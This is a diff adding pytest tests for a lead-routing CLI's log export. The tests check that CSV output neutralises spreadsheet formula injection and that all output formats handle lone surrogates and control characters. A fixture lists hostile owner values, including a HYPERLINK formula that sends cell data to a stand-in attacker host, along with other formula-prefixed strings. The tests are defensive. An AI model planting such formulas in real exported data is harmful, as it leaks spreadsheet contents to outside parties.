@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import shutil
 
@@ -211,3 +212,59 @@ def test_simulate_at_names_itself_in_its_error(app_yaml, tmp_path):
 def test_every_time_option_documents_the_relative_times(command):
     result = CliRunner().invoke(main, [*command, "--help"])
     assert "yesterday" in result.output and "2h" in result.output and "ago" in result.output
+
+
+HOSTILE_OWNERS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)",
+                  "\tcmd", "\rcmd", "a;=1+1"]  # fmt: skip
+
+
+@pytest.fixture
+def hostile_log(app_yaml):
+    """A log whose second row holds lone surrogates and whose rows hold formulas from a CRM."""
+    config = load_config(app_yaml)
+    store = open_store(config.store_url)
+    router = Router(config, store)
+    router.route(lead("first"), TUESDAY_10AM, source="hubspot")
+    router.route(lead("A\ud800", first_name="\ud800", email="x\udfff@acme.com",
+                      owner="\ud800=1"), TUESDAY_10AM, source="hubspot")  # fmt: skip
+    for number, owner in enumerate(HOSTILE_OWNERS):
+        router.route(lead(f"F{number}", owner=owner), TUESDAY_10AM, source="hubspot")
+    router.route(lead("=last"), TUESDAY_10AM, source="hubspot")
+    store.close()
+    return app_yaml
+
+
+def test_log_csv_writes_every_row_with_lone_surrogates_replaced(hostile_log):
+    result = CliRunner().invoke(main, ["--config", str(hostile_log), "log", "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert [r["lead_id"] for r in rows] == [
+        "first", "A\ufffd", *(f"F{n}" for n in range(len(HOSTILE_OWNERS))), "'=last",
+    ]  # fmt: skip
+    assert rows[1]["previous_owner"] == "\ufffd=1"
+    result.stdout.encode("utf-8")  # well-formed: any UTF-8 reader takes it
+
+
+def test_log_csv_neutralises_formulas_as_owasp_advises(hostile_log):
+    result = CliRunner().invoke(main, ["--config", str(hostile_log), "log", "--format", "csv"])
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    owners = [r["previous_owner"] for r in rows if r["lead_id"].startswith("F")]
+    assert owners == [f"'{owner}" if owner[0] in "=+-@\t\r" else owner
+                      for owner in HOSTILE_OWNERS]  # fmt: skip
+    for cells in list(csv.reader(io.StringIO(result.stdout)))[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert result.stdout.splitlines()[0].startswith('"id","decided_at"')  # every cell quoted
+
+
+def test_log_table_and_json_survive_lone_surrogates_and_control_characters(hostile_log):
+    table = CliRunner().invoke(main, ["--config", str(hostile_log), "log"])
+    assert table.exit_code == 0, table.output
+    lines = table.stdout.splitlines()
+    assert len(lines) == 1 + 3 + len(HOSTILE_OWNERS)  # a tab or CR in a value breaks no row
+    assert "A\ufffd" in table.stdout and "\r" not in table.stdout
+    as_json = CliRunner().invoke(main, ["--config", str(hostile_log), "log", "--format", "json"])
+    assert as_json.exit_code == 0, as_json.output
+    records = [json.loads(line) for line in as_json.stdout.splitlines()]
+    assert [r["lead_id"] for r in records][:2] == ["first", "A\ud800"]  # kept exactly
+    assert records[1]["lead_email"] == "x\udfff@acme.com"
+    assert len(records) == 3 + len(HOSTILE_OWNERS)
